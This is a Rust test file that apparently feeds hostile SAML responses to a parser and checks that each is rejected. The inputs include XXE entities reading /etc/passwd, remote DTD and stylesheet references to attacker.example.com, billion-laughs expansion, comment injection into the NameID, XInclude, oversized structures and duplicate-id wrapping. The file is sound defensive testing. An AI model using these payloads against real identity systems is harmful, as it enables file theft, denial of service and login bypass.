//! Hostile markup and structure: what must be refused before any signature is looked at.

use super::corpus::Case;
use super::idp::*;

const PROCESSING: &str = "forbidden markup: a processing instruction";
const DECLARED: &str = "forbidden markup: a comment, CDATA section or document type";
const UNKNOWN_CHILD: &str = "unexpected structure: an unknown child of the Response";

pub fn cases() -> Vec<Case> {
    let good = with_signed_assertion();
    let mut cases = documents(&good);
    cases.extend(sizes(&good));
    cases.extend(structures(&good));
    cases
}

fn documents(good: &str) -> Vec<Case> {
    let doctype = |subset: &str| format!("<!DOCTYPE samlp:Response {subset}>{good}");
    let named = |name: &str| good.replace("Anna@example.com", name);
    vec![
        Case::of("a document type", doctype(""), DECLARED),
        Case::of("an external document type", doctype("SYSTEM \"file:///etc/passwd\""), DECLARED),
        Case::of("a remote document type", doctype("PUBLIC \"-//x\" \"http://attacker.example.com/x.dtd\""), DECLARED),
        Case::of("an internal entity", doctype("[<!ENTITY e \"admin\">]"), DECLARED),
        Case::of("an external entity", doctype("[<!ENTITY e SYSTEM \"file:///etc/passwd\">]"), DECLARED),
        Case::of("a parameter entity", doctype("[<!ENTITY % p SYSTEM \"http://attacker.example.com/\">%p;]"), DECLARED),
        Case::of(
            "a billion laughs",
            doctype("[<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;\">]"),
            DECLARED,
        ),
        Case::of("an undeclared entity", named("&admin;"), "not well-formed XML"),
        Case::of("a comment in the NameID", named("admin@example.com<!---->.attacker.com"), DECLARED),
        Case::of("a comment in an attribute value", good.replace("anna@", "admin<!-- x -->@"), DECLARED),
        Case::of("a CDATA section", named("<![CDATA[admin]]>"), DECLARED),
        Case::of("a processing instruction", named("admin<?x?>"), PROCESSING),
        Case::of(
            "a style sheet",
            format!("<?xml-stylesheet href=\"http://attacker.example.com/\"?>{good}"),
            PROCESSING,
        ),
        Case::of("a second declaration", format!("<?xml version=\"1.0\"?><?xml version=\"1.0\"?>{good}"), PROCESSING),
        Case::of("a late declaration", format!(" <?xml version=\"1.0\"?>{good}"), PROCESSING),
        Case::of(
            "another encoding",
            format!("<?xml version=\"1.0\" encoding=\"UTF-16\"?>{good}"),
            "the message is not UTF-8",
        ),
        Case::of("a control character", named("admin\u{1}"), "forbidden markup: a control character"),
        Case::of("a NUL", named("admin\0"), "forbidden markup: a control character"),
        Case::of("two documents", format!("{good}{good}"), "not well-formed XML"),
        Case::of("an unclosed tag", good[..good.len() - 5].to_owned(), "forbidden markup: an endless tag"),
        Case::of("an unclosed element", good.replace("</samlp:Response>", ""), "not well-formed XML"),
        Case::of("an unbound prefix", named("<x:y/>"), "not well-formed XML"),
        Case::of(
            "a repeated attribute",
            good.replace(" ID=\"_response\"", " ID=\"_response\" ID=\"_x\""),
            "not well-formed XML",
        ),
        Case::of("nothing", String::new(), "not well-formed XML"),
        Case::of("no XML", "SAMLResponse".to_owned(), "not well-formed XML"),
        Case::of("JSON", "{\"NameID\":\"admin\"}".to_owned(), "not well-formed XML"),
    ]
}

fn sizes(good: &str) -> Vec<Case> {
    let inside = |markup: &str| {
        good.replace("</samlp:Status>", &format!("<samlp:StatusDetail>{markup}</samlp:StatusDetail></samlp:Status>"))
    };
    let attributes: String = (0..5_000).map(|number| format!(" a{number}=\"\"")).collect();
    let namespaces: String = (0..2_500).map(|number| format!(" xmlns:a{number}=\"u\"")).collect();
    let spread = "<a xmlns:b=\"u\" xmlns:c=\"u\"/>".repeat(1_100);
    let depth = |depth| inside(&format!("{}{}", "<a>".repeat(depth), "</a>".repeat(depth)));
    let signature = signature_template("_assertion", RSA_SHA256, SHA256);
    let transforms = "<ds:Transform Algorithm=\"http://www.w3.org/2001/10/xml-exc-c14n#\"/>".repeat(900);
    vec![
        Case::of("5,000 attributes", inside(&format!("<a{attributes}/>")), "forbidden markup: too many attributes"),
        Case::of(
            "2,500 namespaces of one element",
            inside(&format!("<a{namespaces}/>")),
            "forbidden markup: too many attributes",
        ),
        Case::of("2,200 namespaces", inside(&spread), "forbidden markup: too many namespace declarations"),
        Case::of("15,000 elements", inside(&"<a/>".repeat(15_000)), "forbidden markup: too many elements"),
        Case::of("nesting of 10,000", depth(10_000), "forbidden markup: nested too deeply"),
        Case::of("nesting of 30", depth(30), "forbidden markup: nested too deeply"),
        Case::of(
            "274 KB of nested signatures",
            inside(&signature.repeat(274_000 / signature.len())),
            "the message is too long",
        ),
        Case::of("70 KB of signatures", inside(&signature.repeat(70_000 / signature.len())), "unexpected signature"),
        Case::of(
            "900 transforms",
            good.replace("</ds:Transforms>", &format!("{transforms}</ds:Transforms>")),
            "unexpected signature: not exactly two transforms",
        ),
        Case::of("100 KB of text", good.replace("Anna@", &"A".repeat(100_000)), "the message is too long"),
        Case::of("70 KB of text", good.replace("Anna@", &"A".repeat(70_000)), "the digest does not match"),
        Case::of(
            "20,000 character references",
            good.replace("Anna@", &"&#9;".repeat(17_000)),
            "the digest does not match",
        ),
        Case::encoded("no base64", "%%%".to_owned(), "the message is not base64"),
        Case::encoded(
            "truncated base64",
            Case::of("", good.to_owned(), "").base64[..4_001].to_owned(),
            "the message is not base64",
        ),
        Case::encoded("base64 of bytes that are not UTF-8", "PGE+/v8=".to_owned(), "the message is not UTF-8"),
        Case::encoded("base64 of UTF-16", "//48AGEALwA+AA==".to_owned(), "the message is not UTF-8"),
        Case::encoded("deflated", "q1YqyUgtVshIzcnJVyjPL8pJUQQA".to_owned(), "the message is not UTF-8"),
    ]
}

fn structures(good: &str) -> Vec<Case> {
    let two = response(&format!("{}{}", signed(&assertion()), bare(&assertion()).replace("_assertion", "_other")));
    let encrypted_too = response(&format!("{}{}", signed(&assertion()), encrypted(&signed(&assertion()))));
    let child = |markup: &str| good.replace("</samlp:Status>", &format!("</samlp:Status>{markup}"));
    let value = |markup: &str| good.replace("anna@example.com", markup);
    let include =
        "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\" parse=\"text\"/>";
    vec![
        Case::of("two assertions", bare(&two), "unexpected structure: not exactly one assertion"),
        Case::of(
            "a plain and an encrypted assertion",
            bare(&encrypted_too),
            "unexpected structure: not exactly one assertion",
        ),
        Case::of("no assertion", bare(&response("")), "unexpected structure: not exactly one assertion"),
        Case::of("an assertion alone", signed(&assertion()), "unexpected structure: the root is not a Response"),
        Case::of(
            "another root",
            good.replace("samlp:Response", "samlp:ArtifactResponse"),
            "unexpected structure: the root is not a Response",
        ),
        Case::of(
            "a Response of another namespace",
            good.replace("SAML:2.0:protocol\"", "SAML:1.0:protocol\""),
            "unexpected structure: the root is not a Response",
        ),
        Case::of(
            "an assertion of another namespace",
            good.replace("SAML:2.0:assertion", "SAML:1.0:assertion"),
            UNKNOWN_CHILD,
        ),
        Case::of("an unknown child", child("<x/>"), UNKNOWN_CHILD),
        Case::of(
            "a Response in the Response",
            child(&bare(&response("")).replace("_response", "_inner")),
            UNKNOWN_CHILD,
        ),
        Case::of("an inclusion", value(include), "unexpected structure: an inclusion"),
        Case::of("duplicate ids", good.replace("\"_response\"", "\"_assertion\""), "an id occurs twice"),
        Case::of("an id in other letters", value("<x id=\"_assertion\"/>"), "an id occurs twice"),
        Case::of("an xml:id", value("<x xml:id=\"_assertion\"/>"), "an id occurs twice"),
    ]
}
